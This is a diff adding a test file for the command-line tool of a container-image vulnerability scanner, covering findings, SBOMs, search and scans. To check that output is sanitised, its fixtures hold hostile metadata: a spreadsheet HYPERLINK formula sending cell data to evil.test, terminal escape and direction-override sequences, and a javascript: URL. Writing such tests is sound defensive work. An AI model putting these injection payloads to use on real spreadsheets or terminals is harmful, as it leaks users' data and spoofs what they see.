@@ -1,0 +1,194 @@
+import { afterAll, beforeAll, describe, expect, test } from 'bun:test';
+import { distInfo, layerOf, pushLayers, scanned } from '../../../app/scan-rig.double.ts';
+import { advisory, importAll } from '../../../advisories/advisory-rig.double.ts';
+import { ociIndex, putManifest } from '../../../../test/http/registry.ts';
+import { openCommands } from '../command-rig.double.ts';
+
+type Commands = Awaited<ReturnType<typeof openCommands>>;
+let rig: Commands;
+let digest: string;
+
+/** What somebody who wants to be obeyed calls a package, a version and a path. */
+const hostile = {
+  name: `=HYPERLINK("http://evil.test?"&A1)`,
+  version: '1.0\u001b]8;;http://evil.test\u001b\\\u202e',
+  path: 'app/node_modules/\u001b[2Jevil/package.json',
+};
+
+beforeAll(async () => {
+  rig = await openCommands({ settings: { 'scanning.parallel': 1 } });
+  const { app, url } = rig.server;
+  await importAll(
+    app.storage.db,
+    [
+      advisory('PYSEC-2026-1', 'django', '3.2.13', {
+        ecosystem: 'PyPI',
+        aliases: ['CVE-2026-0001'],
+        summary: 'It is \u001b[31mred\u001b[0m.\nAnd two lines',
+        references: [
+          { type: 'WEB', url: 'javascript:alert(1)' },
+          { type: 'WEB', url: 'https://example.test/advisory' },
+        ],
+        severity: [{ type: 'CVSS_V3', score: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H' }],
+      }),
+    ],
+    { part: 'osv/PyPI' },
+  );
+  await importAll(app.storage.db, [advisory('GHSA-evil', hostile.name, undefined)], { part: 'osv/npm' });
+  const evil = { name: hostile.path, content: JSON.stringify({ name: hostile.name, version: hostile.version }) };
+  digest = await pushLayers(url, 'team/app', 'v1', [layerOf([distInfo('Django', '3.2.1'), evil])]);
+  await scanned(url, 'team/app', digest);
+}, 120_000);
+afterAll(() => rig[Symbol.asyncDispose]());
+
+/** What a terminal obeys: controls but the end of a line, turns of direction, separators. */
+const obeyed = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u;
+const isTame = (text: string) => !obeyed.test(text.replaceAll(/\r?\n|\t/g, ''));
+
+describe('findings', () => {
+  test('are listed from the worst to the least, for people and for programs', async () => {
+    const { code, out } = await rig.run(['findings', 'team/app:v1'], { terminal: true });
+    expect(code).toBe(0);
+    expect(out).toContain('CVE-2026-0001  Critical');
+    const found = (await rig.ok('findings', `team/app@${digest}`, '--severity', 'High')) as Record<string, never>[];
+    expect(found).toMatchObject([
+      {
+        vulnerability: 'CVE-2026-0001',
+        severity: 'Critical',
+        component: { name: 'django', version: '3.2.1' },
+        fix: { version: '3.2.13' },
+        image: digest,
+      },
+    ]);
+    expect(await rig.ok('findings', 'team/app:v1', '--vulnerability', 'pysec-2026-1')).toHaveLength(1);
+    for (const output of ['yaml', 'tsv']) {
+      expect((await rig.run(['findings', 'team/app:v1', '-o', output])).out).toContain('CVE-2026-0001');
+    }
+  });
+
+  test('end a pipeline where there is one too many', async () => {
+    expect((await rig.run(['findings', 'team/app:v1', '--fail-on', 'Critical'])).code).toBe(1);
+    expect((await rig.run(['findings', 'team/app:v1', '--vulnerability', 'CVE-1', '--fail-on', 'Critical'])).code).toBe(
+      0,
+    );
+  });
+
+  test('hostile metadata does nothing to a terminal, whatever the form', async () => {
+    const all = (await rig.ok('findings', 'team/app:v1')) as { component: { name: string } }[];
+    expect(all.map(({ component }) => component.name)).toContain(hostile.name);
+    for (const more of [
+      [],
+      ['-o', 'json'],
+      ['-o', 'yaml'],
+      ['-o', 'tsv'],
+      ['--format', 'csv'],
+      ['--format', 'sarif'],
+    ]) {
+      const { out } = await rig.run(['findings', 'team/app:v1', ...more], { terminal: true });
+      expect(out).toContain('HYPERLINK');
+      expect([more, isTame(out)]).toEqual([more, true]);
+    }
+    expect(isTame((await rig.run(['sbom', 'team/app:v1'], { terminal: true })).out)).toBe(true);
+    expect(isTame((await rig.run(['scan', 'show', 'team/app:v1'], { terminal: true })).out)).toBe(true);
+  });
+
+  test('hostile metadata is no formula in a spreadsheet', async () => {
+    const { out } = await rig.run(['findings', 'team/app:v1', '--format', 'csv']);
+    const lines = out.trimEnd().split('\r\n');
+    expect(lines[0]).toStartWith('"vulnerability","severity"');
+    expect(lines).toHaveLength(3);
+    expect(out).toContain(`"'=HYPERLINK(""http://evil.test?""&A1)"`);
+    for (const line of lines)
+      for (const cell of line.slice(1, -1).split('","')) expect(cell).not.toMatch(/^\s*[=+\-@|%]/);
+  });
+
+  test('hostile metadata is nothing in SARIF but text: no scheme, no other place, no second line', async () => {
+    const { out } = await rig.run(['findings', 'team/app:v1', '--format', 'sarif']);
+    const sarif = JSON.parse(out) as {
+      version: string;
+      runs: {
+        tool: {
+          driver: {
+            rules: {
+              id: string;
+              helpUri?: string;
+              shortDescription: { text: string };
+              properties: Record<string, unknown>;
+            }[];
+          };
+        };
+        results: {
+          ruleId: string;
+          ruleIndex: number;
+          level: string;
+          message: { text: string };
+          locations: { physicalLocation: { artifactLocation: { uri: string } } }[];
+        }[];
+      }[];
+    };
+    const [run] = sarif.runs;
+    expect(sarif.version).toBe('2.1.0');
+    const { rules } = run!.tool.driver;
+    expect(rules.map(({ id }) => id)).toEqual(['CVE-2026-0001', 'GHSA-evil']);
+    expect(rules[0]).toMatchObject({
+      helpUri: 'https://example.test/advisory',
+      shortDescription: { text: expect.stringContaining('red') },
+      properties: { 'security-severity': '9.8' },
+    });
+    for (const { ruleIndex, ruleId, message, locations } of run!.results) {
+      expect(rules[ruleIndex]!.id).toBe(ruleId);
+      expect(isTame(message.text) && !message.text.includes('\n')).toBe(true);
+      expect(locations[0]!.physicalLocation.artifactLocation.uri).toMatch(/^[\w.%~!*'()/-]+$/);
+    }
+    expect(run!.results.map(({ level }) => level)).toEqual(['error', 'note']);
+  });
+});
+
+test('an SBOM is CycloneDX, the same each time', async () => {
+  const { out } = await rig.run(['sbom', 'team/app:v1']);
+  const document = JSON.parse(out) as { specVersion: string; components: { name: string }[] };
+  expect(document.specVersion).toBe('1.6');
+  expect(document.components.map(({ name }) => name)).toContain('django');
+  expect((await rig.run(['sbom', `team/app@${digest}`])).out).toBe(out);
+});
+
+test('which images have a package or a vulnerability is found by name, package URL and alias', async () => {
+  const images = [{ repository: 'team/app', digest, tags: ['v1'] }];
+  expect(await rig.ok('search', 'component', 'django')).toMatchObject(images);
+  expect(await rig.ok('search', 'component', 'pkg:pypi/Django@3.2.1')).toMatchObject(images);
+  expect(await rig.ok('search', 'component', 'pkg:pypi/django@9')).toEqual([]);
+  expect(await rig.ok('search', 'vulnerability', 'CVE-2026-0001')).toMatchObject(images);
+  expect(await rig.ok('search', 'vulnerability', 'PYSEC-2026-1')).toMatchObject(images);
+  expect((await rig.run(['search', 'component', 'django'], { terminal: true })).out).toContain('django 3.2.1');
+});
+
+test('scans are shown, asked for and listed; an index says what it consists of', async () => {
+  const { url } = rig.server;
+  const { out } = await rig.run(['scan', 'show', 'team/app:v1'], { terminal: true });
+  expect(out).toContain('team/app:v1 was scanned\n');
+  expect(out).toContain('Vulnerabilities: 1 critical, 1 unknown (1 fixable)');
+  expect(await rig.ok('scan', 'start', 'team/app:v1', '--wait')).toMatchObject({ state: 'Done', components: 2 });
+  expect(await rig.ok('scan', 'list', '--repository', 'team/app')).toMatchObject([
+    { digest, tags: ['v1'], state: 'Done', status: 'complete', summary: { critical: 1 } },
+  ]);
+  expect(await rig.ok('scan', 'list', '--repository', 'team/app', '--state', 'Failed')).toEqual([]);
+  expect(await rig.ok('scan', 'status')).toMatchObject({ queued: 0, failed: 0, sbomRepositories: [] });
+  expect(await rig.ok('scan', 'update', '--sbom-repository', 'prod/*', '!prod/a')).toMatchObject({
+    sbomRepositories: ['prod/*', '!prod/a'],
+  });
+  expect(await rig.ok('scan', 'update', '--sbom-repository', 'none')).toMatchObject({ sbomRepositories: [] });
+  const { size } = (await rig.server.app.storage.db.first<{ size: number }>(
+    'SELECT size FROM manifests WHERE digest = ?',
+    [digest],
+  ))!;
+  const mediaType = 'application/vnd.oci.image.manifest.v1+json';
+  const index = JSON.stringify({ schemaVersion: 2, mediaType: ociIndex, manifests: [{ mediaType, digest, size }] });
+  expect((await putManifest(url, 'team/app', 'all', index, ociIndex)).status).toBe(201);
+  expect(await rig.ok('scan', 'show', 'team/app:all')).toMatchObject({
+    state: 'NotScannable',
+    children: [{ digest, state: 'Done' }],
+  });
+  expect(await rig.ok('findings', 'team/app:all')).toHaveLength(2);
+  expect((await rig.refused('sbom', 'team/app:all'))[1]).toContain('it is an index');
+  expect((await rig.refused('scan', 'show', 'team/app:none'))[0]).toBeGreaterThan(0);
+});
